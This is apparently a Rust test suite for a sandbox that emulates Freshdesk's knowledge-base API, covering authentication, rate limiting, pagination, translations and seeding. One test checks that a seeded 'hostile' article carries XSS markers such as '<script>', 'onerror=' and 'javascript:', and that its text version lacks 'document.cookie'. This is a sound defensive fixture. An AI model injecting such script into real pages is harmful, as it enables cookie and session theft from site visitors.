    fn request(path_and_query: &str, auth: Option<&str>) -> ProviderRequest {
        let (path, query) = match path_and_query.split_once('?') {
            Some((p, q)) => (p.to_owned(), Some(q.to_owned())),
            None => (path_and_query.to_owned(), None),
        };
        let mut headers = HeaderMap::new();
        if let Some(auth) = auth {
            headers.insert(AUTHORIZATION, HeaderValue::from_str(auth).unwrap());
        }
        ProviderRequest {
            method: Method::GET,
            host: "acme.freshdesk.com".to_owned(),
            path,
            query,
            headers,
            body: Bytes::new(),
        }
    }

    /// Sends a request through the whole dispatch (counting, faults, routing).
    async fn call(
        state: &SandboxState,
        path_and_query: &str,
        auth: Option<&str>,
    ) -> (StatusCode, HeaderMap, String) {
        let response = crate::providers::dispatch(state, request(path_and_query, auth)).await;
        let status = response.status();
        let headers = response.headers().clone();
        let bytes = axum::body::to_bytes(response.into_body(), usize::MAX)
            .await
            .unwrap();
        (status, headers, String::from_utf8(bytes.to_vec()).unwrap())
    }

    async fn get(state: &SandboxState, path_and_query: &str) -> (StatusCode, Value) {
        let (status, _, body) = call(state, path_and_query, Some(&api_key())).await;
        let value = if body.is_empty() {
            Value::Null
        } else {
            serde_json::from_str(&body).unwrap()
        };
        (status, value)
    }

    /// Follows `Link` from `first` to the end: every page's items.
    async fn walk(state: &SandboxState, first: &str) -> Vec<Vec<Value>> {
        let mut url = first.to_owned();
        let mut pages = Vec::new();
        loop {
            let (status, headers, body) = call(state, &url, Some(&api_key())).await;
            assert_eq!(status, StatusCode::OK, "{body}");
            let items: Vec<Value> = serde_json::from_str(&body).unwrap();
            pages.push(items);
            let Some(link) = headers.get(LINK) else {
                return pages;
            };
            let link = link.to_str().unwrap();
            let inner = link
                .strip_prefix('<')
                .and_then(|l| l.strip_suffix(">; rel=\"next\""))
                .unwrap();
            url = inner.strip_prefix(HOST).unwrap().to_owned();
            assert!(pages.len() < 500, "the listing does not end");
        }
    }

    fn ids(items: &[Value]) -> Vec<u64> {
        items.iter().map(|a| a["id"].as_u64().unwrap()).collect()
    }

    #[test]
    fn paths_are_matched_with_and_without_language_codes() {
        let at = parse_path;
        assert_eq!(
            at("/api/v2/solutions/categories").map(|p| p.route),
            Some(KbRoute::Categories)
        );
        assert_eq!(
            at("/api/v2/solutions/categories/de"),
            Some(KbPath {
                route: KbRoute::Categories,
                id: None,
                language: Some("de")
            })
        );
        assert_eq!(
            at("/api/v2/solutions/categories/43000100001"),
            Some(KbPath {
                route: KbRoute::Category,
                id: Some(43_000_100_001),
                language: None
            })
        );
        assert_eq!(
            at("/api/v2/solutions/categories/7/folders/pt-BR"),
            Some(KbPath {
                route: KbRoute::CategoryFolders,
                id: Some(7),
                language: Some("pt-BR")
            })
        );
        assert_eq!(
            at("/api/v2/solutions/folders/7/articles").map(|p| p.route),
            Some(KbRoute::FolderArticles)
        );
        assert_eq!(
            at("/api/v2/solutions/articles/9/fr"),
            Some(KbPath {
                route: KbRoute::Article,
                id: Some(9),
                language: Some("fr")
            })
        );
        assert_eq!(
            at("/api/v2/settings/helpdesk").map(|p| p.route),
            Some(KbRoute::SettingsHelpdesk)
        );
        for unserved in [
            "/api/v2/solutions/folders/abc/articles",
            "/api/v2/solutions/folders/7/subfolders",
            "/api/v2/solutions/articles",
            "/api/v2/solutions/articles/x/de",
            "/api/v2/solutions/",
            "/api/v2/search/solutions",
        ] {
            assert_eq!(at(unserved), None, "{unserved}");
        }
        assert_eq!(iso(1_704_067_200), "2024-01-01T00:00:00Z");
        assert_eq!(
            html_to_text("<p>A &amp; B</p><script>x()</script><ul><li>one</li><li>two</li></ul>"),
            "A & B\none\ntwo"
        );
    }

    #[tokio::test]
    async fn credentials_are_checked_and_every_answer_is_counted() {
        let state = SandboxState::new();
        state.seed_solutions("acme", SolutionsSeed::default());
        let url = "/api/v2/solutions/categories";
        let (status, headers, body) = call(&state, url, None).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED);
        assert_eq!(
            serde_json::from_str::<Value>(&body).unwrap(),
            json!({"code": "invalid_credentials", "message": "You have to be logged in to perform this action."})
        );
        assert_eq!(headers["x-ratelimit-remaining"], "199");
        let wrong = format!("Basic {}", STANDARD.encode("nope:X"));
        assert_eq!(
            call(&state, url, Some(&wrong)).await.0,
            StatusCode::UNAUTHORIZED
        );
        // Any password goes with the key.
        let other_password = format!("Basic {}", STANDARD.encode("fd-sandbox-key-0001:whatever"));
        let (status, headers, body) = call(&state, url, Some(&other_password)).await;
        assert_eq!(status, StatusCode::OK, "{body}");
        assert_eq!(headers["x-ratelimit-total"], "200");
        assert_eq!(headers["x-ratelimit-remaining"], "197");
        assert_eq!(headers["x-ratelimit-used-currentrequest"], "1");
        assert_eq!(
            headers["x-freshdesk-api-version"],
            "latest=v2; requested=v2"
        );
        assert_eq!(state.calls(FD_SOLUTION_CATEGORIES), 3);

        // The "View solutions" privilege.
        state.fd_set_view_solutions("acme", 43_000_000_001, false);
        let (status, _, body) = call(&state, url, Some(&api_key())).await;
        assert_eq!(status, StatusCode::FORBIDDEN);
        assert_eq!(
            serde_json::from_str::<Value>(&body).unwrap(),
            json!({"code": "access_denied", "message": "You are not authorized to perform this action."})
        );
        assert_eq!(
            get(&state, "/api/v2/settings/helpdesk").await.0,
            StatusCode::OK
        );
        state.fd_set_view_solutions("acme", 43_000_000_001, true);
        assert_eq!(get(&state, url).await.0, StatusCode::OK);

        // The ticketing route still answers beside the knowledge base.
        assert_eq!(
            call(&state, "/api/v2/agents/me", Some(&api_key())).await.0,
            StatusCode::OK
        );
        let (status, _, _) = call(
            &state,
            "/api/v2/solutions/folders/1/subfolders",
            Some(&api_key()),
        )
        .await;
        assert_eq!(status, StatusCode::NOT_FOUND);
        assert_eq!(state.calls(support::UNKNOWN), 1);
    }

    #[tokio::test]
    async fn folder_articles_page_with_the_link_header() {
        let state = SandboxState::new();
        let summary = state.seed_solutions(
            "acme",
            SolutionsSeed {
                categories: 1,
                folders_per_category: 1,
                articles: 250,
                ..SolutionsSeed::default()
            },
        );
        let folder = summary.folder_ids[0];
        assert_eq!(summary.folder_article_counts, vec![(folder, 250)]);
        let base = format!("/api/v2/solutions/folders/{folder}/articles");

        let pages = walk(&state, &format!("{base}?per_page=100")).await;
        assert_eq!(
            pages.iter().map(Vec::len).collect::<Vec<_>>(),
            vec![100, 100, 50]
        );
        let seen: Vec<u64> = pages.iter().flat_map(|p| ids(p)).collect();
        assert_eq!(
            seen, summary.article_ids,
            "position order is creation order here"
        );
        assert_eq!(state.calls(FD_SOLUTION_FOLDER_ARTICLES), 3);

        // The next link keeps the request's parameters in order and replaces `page`.
        let (_, headers, _) = call(
            &state,
            &format!("{base}?per_page=100&page=2"),
            Some(&api_key()),
        )
        .await;
        assert_eq!(
            headers[LINK],
            format!("<{HOST}{base}?per_page=100&page=3>; rel=\"next\"").as_str()
        );
        let (_, headers, body) = call(&state, &base, Some(&api_key())).await;
        assert_eq!(serde_json::from_str::<Vec<Value>>(&body).unwrap().len(), 30);
        assert_eq!(
            headers[LINK],
            format!("<{HOST}{base}?page=2>; rel=\"next\"").as_str()
        );
        // Past the end: an empty page, no link, no depth cap.
        let (status, headers, body) =
            call(&state, &format!("{base}?page=9000"), Some(&api_key())).await;
        assert_eq!((status, body.as_str()), (StatusCode::OK, "[]"));
        assert!(headers.get(LINK).is_none());

        for (query, field) in [
            ("per_page=101", "per_page"),
            ("per_page=0", "per_page"),
            ("per_page=ten", "per_page"),
            ("page=0", "page"),
            ("page=-1", "page"),
            ("updated_since=2024-01-01", "updated_since"),
        ] {
            let (status, body) = get(&state, &format!("{base}?{query}")).await;
            assert_eq!(status, StatusCode::BAD_REQUEST, "{query}");
            assert_eq!(body["description"], "Validation failed");
            assert_eq!(body["errors"][0]["field"], field, "{query}");
        }
        let (_, body) = get(&state, &format!("{base}?per_page=500")).await;
        assert_eq!(
            body["errors"][0],
            json!({"field": "per_page", "message": "It should be a Positive Integer less than or equal to 100", "code": "invalid_value"})
        );
    }

    #[tokio::test]
    async fn categories_folders_and_articles_have_freshdesks_members() {
        let state = SandboxState::new();
        let summary = state.seed_solutions("acme", SolutionsSeed::default());
        let (status, body) = get(&state, "/api/v2/solutions/categories").await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(ids(body.as_array().unwrap()), summary.category_ids);
        assert_eq!(body[0]["name"], "Getting started");
        let category = summary.category_ids[1];
        let (_, folders) = get(
            &state,
            &format!("/api/v2/solutions/categories/{category}/folders"),
        )
        .await;
        let folders = folders.as_array().unwrap();
        assert_eq!(folders.len(), 3);
        assert!(folders[0].get("category_id").is_none());
        let folder = folders[0]["id"].as_u64().unwrap();
        let (_, shown) = get(&state, &format!("/api/v2/solutions/folders/{folder}")).await;
        assert_eq!(shown["category_id"], category);
        assert_eq!(shown["hierarchy"][0]["data"]["id"], category);
        let (_, shown) = get(&state, &format!("/api/v2/solutions/categories/{category}")).await;
        assert_eq!(shown["name"], "Billing and payments");

        let id = summary.article_ids[4];
        let (status, article) = get(&state, &format!("/api/v2/solutions/articles/{id}")).await;
        assert_eq!(status, StatusCode::OK);
        for member in [
            "id",
            "type",
            "category_id",
            "folder_id",
            "hierarchy",
            "thumbs_up",
            "thumbs_down",
            "hits",
            "feedback_count",
            "seo_data",
            "tags",
            "agent_id",
            "title",
            "description",
            "description_text",
            "status",
            "attachments",
            "cloud_files",
            "created_at",
            "updated_at",
        ] {
            assert!(article.get(member).is_some(), "{member} missing");
        }
        assert_eq!(article["agent_id"], 43_000_000_001_u64);
        assert!(
            article["description"]
                .as_str()
                .unwrap()
                .contains("<img src=")
        );
        assert!(!article["description_text"].as_str().unwrap().contains('<'));
        let size = article["description"].as_str().unwrap().len();
        assert!((1_500..12_000).contains(&size), "{size}");

        // Unknown ids: Freshdesk's empty 404.
        for path in [
            "/api/v2/solutions/articles/1".to_owned(),
            "/api/v2/solutions/folders/1/articles".to_owned(),
            "/api/v2/solutions/categories/1/folders".to_owned(),
            "/api/v2/solutions/folders/1".to_owned(),
        ] {
            let (status, _, body) = call(&state, &path, Some(&api_key())).await;
            assert_eq!(
                (status, body.as_str()),
                (StatusCode::NOT_FOUND, ""),
                "{path}"
            );
        }
    }

    #[tokio::test]
    async fn languages_translations_and_their_errors() {
        let state = SandboxState::new();
        // An unseeded helpdesk: English only, no multilingual feature.
        let (_, body) = get(&state, "/api/v2/settings/helpdesk").await;
        assert_eq!(
            body,
            json!({"primary_language": "en", "supported_languages": [], "portal_languages": [], "help_widget_languages": []})
        );
        let (status, body) = get(&state, "/api/v2/solutions/categories/en").await;
        assert_eq!(status, StatusCode::NOT_FOUND);
        assert_eq!(body["code"], "require_feature");
        assert_eq!(
            get(&state, "/api/v2/solutions/categories").await.1,
            json!([])
        );

        let summary = state.seed_solutions(
            "acme",
            SolutionsSeed {
                articles: 30,
                translated_every: 3,
                ..SolutionsSeed::default()
            },
        );
        let (_, body) = get(&state, "/api/v2/settings/helpdesk").await;
        assert_eq!(body["supported_languages"], json!(["de", "fr"]));
        let (status, body) = get(&state, "/api/v2/solutions/categories/es").await;
        assert_eq!(status, StatusCode::NOT_FOUND);
        assert_eq!(body["code"], "language_not_allowed");
        assert!(body["message"].as_str().unwrap().contains("de, en, fr"));
        assert_eq!(
            get(&state, "/api/v2/solutions/categories/DE").await.1["code"],
            "language_not_allowed",
            "codes are case-sensitive"
        );
        let (_, german) = get(&state, "/api/v2/solutions/categories/de").await;
        assert_eq!(german[0]["name"], "Erste Schritte");
        let (_, english) = get(&state, "/api/v2/solutions/categories/en").await;
        assert_eq!(english[0]["name"], "Getting started");

        assert_eq!(summary.translations.len(), 30 + 2 * 10);
        let translated: BTreeSet<u64> = summary
            .translations
            .iter()
            .filter(|(_, l)| l == "de")
            .map(|(id, _)| *id)
            .collect();
        assert_eq!(translated.len(), 10);
        let mut listed = BTreeSet::new();
        for folder in &summary.folder_ids {
            for page in walk(
                &state,
                &format!("/api/v2/solutions/folders/{folder}/articles/de?per_page=100"),
            )
            .await
            {
                listed.extend(ids(&page));
            }
        }
        assert_eq!(listed, translated);

        let yes = *translated.iter().next().unwrap();
        let no = summary
            .article_ids
            .iter()
            .copied()
            .find(|id| !translated.contains(id))
            .unwrap();
        let (status, body) = get(&state, &format!("/api/v2/solutions/articles/{yes}/fr")).await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(body["hierarchy"][0]["data"]["language"], "fr");
        let article = state.fd_article("acme", yes).unwrap();
        assert_eq!(body["title"], article.translation("fr").unwrap().title);
        assert_eq!(body["hits"], article.translation("fr").unwrap().hits);
        let (_, body) = get(&state, &format!("/api/v2/solutions/articles/{yes}")).await;
        let total: u64 = article.translations.iter().map(|t| t.hits).sum();
        assert_eq!(
            body["hits"], total,
            "metrics are consolidated without a language"
        );
        let (status, _, body) = call(
            &state,
            &format!("/api/v2/solutions/articles/{no}/de"),
            Some(&api_key()),
        )
        .await;
        assert_eq!((status, body.as_str()), (StatusCode::NOT_FOUND, ""));
        let (status, body) = get(&state, &format!("/api/v2/solutions/articles/{no}/xaasd")).await;
        assert_eq!(
            (status, body["code"].clone()),
            (StatusCode::NOT_FOUND, json!("language_not_allowed"))
        );
    }

    #[tokio::test]
    async fn changes_bump_updated_at_and_deleted_articles_are_gone() {
        let state = SandboxState::new();
        let summary = state.seed_solutions("acme", SolutionsSeed::default());
        let id = summary.article_ids[0];
        let before = state.fd_article("acme", id).unwrap();
        let changed = state
            .fd_update_article(
                "acme",
                id,
                None,
                FdArticleChange {
                    title: Some("Renamed".to_owned()),
                    description: Some("<p>New <b>text</b></p>".to_owned()),
                    status: Some(STATUS_DRAFT),
                },
            )
            .unwrap();
        let primary = changed.primary().unwrap();
        assert!(primary.updated_at > before.primary().unwrap().updated_at);
        assert_eq!(primary.description_text, "New text");
        // Only the changed version moves.
        assert_eq!(changed.translation("de"), before.translation("de"));
        let (_, body) = get(&state, &format!("/api/v2/solutions/articles/{id}")).await;
        assert_eq!(
            (body["title"].clone(), body["status"].clone()),
            (json!("Renamed"), json!(1))
        );
        assert_eq!(body["updated_at"], iso(primary.updated_at));
        // A new translation of an untranslated article.
        let plain = summary.article_ids[1];
        assert!(
            state
                .fd_article("acme", plain)
                .unwrap()
                .translation("fr")
                .is_none()
        );
        let fr = state
            .fd_update_article(
                "acme",
                plain,
                Some("fr"),
                FdArticleChange {
                    title: Some("Bonjour".to_owned()),
                    ..FdArticleChange::default()
                },
            )
            .unwrap();
        assert_eq!(fr.translation("fr").unwrap().title, "Bonjour");
        assert!(
            state
                .fd_update_article("acme", plain, Some("es"), FdArticleChange::default())
                .is_none()
        );
        assert!(
            state
                .fd_update_article(
                    "acme",
                    plain,
                    None,
                    FdArticleChange {
                        status: Some(3),
                        ..FdArticleChange::default()
                    }
                )
                .is_none()
        );

        let gone = summary.article_ids[2];
        let folder = state.fd_article("acme", gone).unwrap().folder_id;
        assert!(state.fd_delete_article("acme", gone));
        assert!(!state.fd_delete_article("acme", gone));
        let (status, _) = get(&state, &format!("/api/v2/solutions/articles/{gone}")).await;
        assert_eq!(status, StatusCode::NOT_FOUND);
        let listed: Vec<u64> = walk(
            &state,
            &format!("/api/v2/solutions/folders/{folder}/articles?per_page=100"),
        )
        .await
        .iter()
        .flat_map(|p| ids(p))
        .collect();
        assert!(!listed.contains(&gone));
        assert!(state.fd_article("acme", gone).unwrap().deleted);

        let added = state
            .fd_add_article(
                "acme",
                FdNewArticle {
                    folder_id: Some(folder),
                    title: "Fresh".to_owned(),
                    description: "<p>Hi</p>".to_owned(),
                    ..FdNewArticle::default()
                },
            )
            .unwrap();
        assert_eq!(added.id, FIRST_ARTICLE_ID + 100);
        assert_eq!(
            get(&state, &format!("/api/v2/solutions/articles/{}", added.id))
                .await
                .1["title"],
            "Fresh"
        );
        assert!(
            state
                .fd_add_article("acme", FdNewArticle::default())
                .is_none()
        );
        let empty = SandboxState::new();
        let first = empty
            .fd_add_article(
                "acme",
                FdNewArticle {
                    title: "Only".to_owned(),
                    ..FdNewArticle::default()
                },
            )
            .unwrap();
        assert_eq!(
            (first.id, first.folder_id),
            (FIRST_ARTICLE_ID, FIRST_FOLDER_ID)
        );
    }

    #[tokio::test]
    async fn the_rate_limit_and_the_429_storm() {
        let state = SandboxState::new();
        state.seed_solutions("acme", SolutionsSeed::default());
        let url = "/api/v2/solutions/categories";
        state.fd_set_rate_limit("acme", 3);
        for remaining in [2, 1, 0] {
            let (status, headers, _) = call(&state, url, Some(&api_key())).await;
            assert_eq!(status, StatusCode::OK);
            assert_eq!(headers["x-ratelimit-total"], "3");
            assert_eq!(
                headers["x-ratelimit-remaining"],
                remaining.to_string().as_str()
            );
        }
        let (status, headers, body) = call(&state, url, Some(&api_key())).await;
        assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
        assert_eq!(
            serde_json::from_str::<Value>(&body).unwrap(),
            json!({"message": RATE_LIMIT_MESSAGE})
        );
        assert!(
            headers[CONTENT_TYPE]
                .to_str()
                .unwrap()
                .starts_with("application/json")
        );
        let wait: u64 = headers[RETRY_AFTER].to_str().unwrap().parse().unwrap();
        assert!((1..=60).contains(&wait));
        assert!(headers.get("x-ratelimit-remaining").is_none());
        // Unauthenticated requests spend the budget too.
        assert_eq!(
            call(&state, url, None).await.0,
            StatusCode::TOO_MANY_REQUESTS
        );

        let state = SandboxState::new();
        state.fd_throttle_next("acme", 2, 7);
        for _ in 0..2 {
            let (status, headers, _) = call(&state, url, Some(&api_key())).await;
            assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
            assert_eq!(headers[RETRY_AFTER], "7");
        }
        let (status, headers, _) = call(&state, url, Some(&api_key())).await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(headers["x-ratelimit-total"], "200");
        assert_eq!(state.calls(FD_SOLUTION_CATEGORIES), 3);
    }

    #[tokio::test]
    async fn the_large_and_the_hostile_articles() {
        let state = SandboxState::new();
        let summary = state.seed_solutions(
            "acme",
            SolutionsSeed {
                articles: 10,
                large_article: true,
                hostile_article: true,
                ..SolutionsSeed::default()
            },
        );
        let large = summary.large_article_id.unwrap();
        let (status, body) = get(&state, &format!("/api/v2/solutions/articles/{large}")).await;
        assert_eq!(status, StatusCode::OK);
        assert!(body["description"].as_str().unwrap().len() > DYNAMODB_ITEM_LIMIT);
        let hostile = summary.hostile_article_id.unwrap();
        assert_ne!(hostile, large);
        let article = state.fd_article("acme", hostile).unwrap();
        let version = article.primary().unwrap();
        for needle in [
            "<script>",
            "onerror=",
            "javascript:",
            "<iframe",
            "onmouseover=",
        ] {
            assert!(version.description.contains(needle), "{needle}");
        }
        assert!(!version.description_text.contains("document.cookie"));
    }

    #[test]
    fn seeding_is_deterministic_counts_hold_and_ten_thousand_are_quick() {
        let a = SandboxState::new();
        let b = SandboxState::new();
        let seed = SolutionsSeed {
            articles: 60,
            seed: 7,
            ..SolutionsSeed::default()
        };
        assert_eq!(
            a.seed_solutions("acme", seed.clone()),
            b.seed_solutions("acme", seed)
        );
        assert_eq!(a.fd_articles("acme"), b.fd_articles("acme"));
        let other = a.seed_solutions(
            "acme",
            SolutionsSeed {
                articles: 60,
                seed: 8,
                ..SolutionsSeed::default()
            },
        );
        assert_ne!(
            other.folder_article_counts,
            b.seed_solutions(
                "acme",
                SolutionsSeed {
                    articles: 60,
                    seed: 7,
                    ..SolutionsSeed::default()
                }
            )
            .folder_article_counts
        );

        let summary = a.seed_solutions(
            "acme",
            SolutionsSeed {
                articles: 100,
                translated_every: 4,
                draft_every: 10,
                ..SolutionsSeed::default()
            },
        );
        assert_eq!(summary.category_ids.len(), 3);
        assert_eq!(summary.folder_ids.len(), 9);
        assert_eq!(summary.article_ids.len(), 100);
        assert_eq!(
            summary
                .folder_article_counts
                .iter()
                .map(|(_, n)| n)
                .sum::<usize>(),
            100
        );
        // 25 articles in three languages, 75 in one; every 10th a draft in all of its.
        assert_eq!(summary.translations.len(), 25 * 3 + 75);
        let draft_articles: BTreeSet<u64> = summary.drafts.iter().map(|(id, _)| *id).collect();
        assert_eq!(draft_articles.len(), 10);
        assert_eq!(
            summary.published_translations.len() + summary.drafts.len(),
            summary.translations.len()
        );

        let started = Instant::now();
        let big = a.seed_solutions(
            "acme",
            SolutionsSeed {
                articles: 10_000,
                ..SolutionsSeed::default()
            },
        );
        assert_eq!(big.article_ids.len(), 10_000);
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "{:?}",
            started.elapsed()
        );
    }
}
